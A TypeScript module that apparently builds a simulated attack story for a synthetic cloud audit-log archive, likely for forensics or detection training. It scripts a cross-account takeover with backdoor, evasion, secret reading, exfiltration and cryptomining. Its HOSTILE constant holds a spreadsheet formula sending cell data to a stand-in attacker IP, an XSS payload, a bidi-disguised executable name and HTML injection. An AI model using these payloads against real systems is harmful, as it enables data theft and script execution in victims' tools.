import { sampleIntruder } from '../../shared/contract/workspaces.ts';
import type { ResolvedOptions, TrailOptions } from './options.ts';
import { resolveOptions } from './options.ts';
import { LEAKED_USER, type Principal } from './principals.ts';
import { createPrng } from './prng.ts';
import { identityOf, sessionAt } from './sessions.ts';
import { guessRoles, jump, scout } from './story-entry.ts';
import type { StoryFacts } from './story-facts.ts';
import { blindDefenders, enterConsole, plantBackdoor } from './story-takeover.ts';
import { createTeller, type Actor, type StoryStep, type Teller } from './story-teller.ts';
import { copyBucketOut, readSecrets, shareSnapshots, startMiners } from './story-theft.ts';
import { STREAM } from './streams.ts';
import type { TrailRecord } from './types.ts';
import { createWorld, type Account, type World } from './world.ts';

/** The attack: its records (times rise, copies included) and what is true about them. */
export interface Story {
  readonly records: readonly TrailRecord[];
  readonly accountIds: readonly string[];
  readonly facts: StoryFacts;
}

const HALF_DAY_MS = 43_200_000;
const LEAD_MS = 5_400_000;
const ATTACKER_IPV4 = '203.0.113.77';
const ATTACKER_IPV6 = '2001:db8:bad:cafe::77';
const UNUSED_REGION = 'ap-northeast-3';
const OBJECTS_TAKEN = 88;
const HOSTILE = {
  userAgent: '=HYPERLINK("http://203.0.113.77/c?u="&A1,"aws-cli/2.15.0")',
  markupKey: 'exports/<img src=x onerror=alert(document.domain)>.csv',
  bidiKey: 'exports/statement-\u202Efdp.exe',
  sessionName: `o'neil "deploy" <b>1</b>`,
} as const;
const TOOL =
  'aws-cli/2.15.30 Python/3.11.8 Linux/6.6.15-amd64 exe/x86_64.kali.2024 prompt/off command/sts.get-caller-identity';

function named(account: Account, name: string): Principal {
  const found = account.principals.find((principal) => principal.name === name);
  if (!found) throw new RangeError(`The account ${account.id} has no principal "${name}".`);
  return found;
}

function respond(teller: Teller, world: World, entry: Account, target: Account, createdUser: string): number {
  const adminOf = (account: Account): Actor => {
    const admin = account.principals.find(({ kind, profile }) => kind === 'sso' && profile === 'engineer');
    if (!admin) throw new RangeError(`The account ${account.id} has no administrator.`);
    const session = sessionAt(world.seed, admin, 'us-east-1', teller.now());
    const identity = identityOf(admin, session, world.identityStoreId);
    return { account, identity, sourceAddress: admin.address, userAgent: admin.userAgent };
  };
  const write = (
    name: string,
    service = 'iam',
  ): { service: string; name: string; region: string; readOnly: false } => ({
    service,
    name,
    region: 'us-east-1',
    readOnly: false,
  });
  teller.wait(2400);
  const keyDisabledMs = teller.now();
  const accessKeyId = named(entry, LEAKED_USER).keyId;
  teller.tell('response', adminOf(entry), {
    ...write('UpdateAccessKey'),
    body: { request: { userName: LEAKED_USER, accessKeyId, status: 'Inactive' } },
  });
  const policyArn = 'arn:aws:iam::aws:policy/AdministratorAccess';
  teller.tell('response', adminOf(target), {
    ...write('DeleteLoginProfile'),
    body: { request: { userName: createdUser } },
  });
  teller.tell('response', adminOf(target), {
    ...write('DetachUserPolicy'),
    body: { request: { userName: createdUser, policyArn } },
  });
  const name = `arn:aws:cloudtrail:us-east-1:${target.id}:trail/account-audit`;
  teller.tell('response', adminOf(target), {
    ...write('StartLogging', 'cloudtrail'),
    body: { request: { name } },
  });
  return keyDisabledMs;
}

function outsiderId(seed: number): string {
  const rng = createPrng(seed, STREAM.story, 1);
  return `7${String(rng.int(0, 99_999)).padStart(5, '0')}${String(rng.int(0, 999_999)).padStart(6, '0')}`;
}

function tally({
  records,
  counts,
}: Teller): Pick<StoryFacts, 'recordCount' | 'errorCount' | 'countsByStep' | 'eventIds' | 'lastMs'> {
  const count = (step: StoryStep): number => counts.get(step) ?? 0;
  return {
    recordCount: records.length,
    errorCount: records.filter((record) => record.errorCode !== undefined).length,
    countsByStep: {
      reconnaissance: count('reconnaissance'),
      'lateral-movement': count('lateral-movement'),
      persistence: count('persistence'),
      console: count('console'),
      'defence-evasion': count('defence-evasion'),
      secrets: count('secrets'),
      exfiltration: count('exfiltration'),
      compute: count('compute'),
      sharing: count('sharing'),
      response: count('response'),
    },
    eventIds: records.map(({ eventID }) => eventID),
    lastMs: Math.max(...records.map(({ eventTime }) => Date.parse(eventTime))),
  };
}

/** Tells the attack in the middle of the archive's time span. The organisation must have at least three accounts. */
export function buildStory(world: World, options: ResolvedOptions): Story {
  const [entry, middle, target] = world.accounts;
  if (!entry || !middle || !target) throw new RangeError('The story needs three accounts.');
  const teller = createTeller(
    options.startMs + options.days * HALF_DAY_MS - LEAD_MS,
    createPrng(world.seed, STREAM.story),
  );
  const firstMs = teller.now();
  const leaked = named(entry, LEAKED_USER);
  const session = sessionAt(world.seed, leaked, 'us-east-1', firstMs);
  const attacker: Actor = {
    account: entry,
    identity: identityOf(leaked, session, world.identityStoreId),
    sourceAddress: ATTACKER_IPV4,
    userAgent: TOOL,
  };
  scout(teller, attacker, HOSTILE.userAgent);
  guessRoles(teller, attacker, target);
  const first = jump(teller, attacker, middle, named(middle, 'TerraformExecution'), HOSTILE.sessionName);
  teller.wait(1200);
  const second = jump(teller, first.actor, target, named(target, 'TerraformExecution'), 'release-4711');
  teller.wait(420);
  const createdUser = sampleIntruder;
  const door = plantBackdoor(teller, second.actor, createdUser);
  teller.wait(900);
  const signInMs = enterConsole(teller, target, door, ATTACKER_IPV6);
  teller.wait(600);
  const identity = {
    type: 'IAMUser',
    principalId: door.userId,
    arn: door.arn,
    accountId: target.id,
    accessKeyId: door.keyId,
    userName: createdUser,
  };
  const intruder: Actor = { account: target, identity, sourceAddress: ATTACKER_IPV4, userAgent: TOOL };
  blindDefenders(teller, intruder, (world.accounts[3] ?? entry).id);
  readSecrets(teller, intruder);
  const bucket = target.inventory.buckets[1] ?? '';
  const oddKeys = [HOSTILE.markupKey, HOSTILE.bidiKey];
  const exfiltratedBytes = copyBucketOut(teller, intruder, { bucket, objects: OBJECTS_TAKEN, oddKeys });
  startMiners(teller, intruder, UNUSED_REGION);
  const sharedWithAccountId = outsiderId(world.seed);
  shareSnapshots(teller, intruder, sharedWithAccountId);
  const keyDisabledMs = respond(teller, world, entry, target, createdUser);
  return {
    records: teller.records,
    accountIds: world.accounts.map(({ id }) => id),
    facts: {
      entryAccountId: entry.id,
      middleAccountId: middle.id,
      targetAccountId: target.id,
      leakedUser: LEAKED_USER,
      leakedKeyId: leaked.keyId,
      attackerIpv4: ATTACKER_IPV4,
      attackerIpv6: ATTACKER_IPV6,
      middleKeyId: first.keyId,
      targetKeyId: second.keyId,
      sharedEventIds: [first.sharedEventId, second.sharedEventId],
      createdUser,
      createdKeyId: door.keyId,
      bucket,
      exfiltratedBytes,
      unusedRegion: UNUSED_REGION,
      sharedWithAccountId,
      hostile: HOSTILE,
      ...tally(teller),
      firstMs,
      signInMs,
      keyDisabledMs,
    },
  };
}

/** What is true about the attack in the archive these options make. Throws an `AppError` with code `bad-params`. */
export function storyFacts(options: Omit<TrailOptions, 'events'>): StoryFacts {
  const resolved = resolveOptions({ ...options, story: true, events: 1 });
  return buildStory(createWorld(resolved.seed, resolved.accounts), resolved).facts;
}
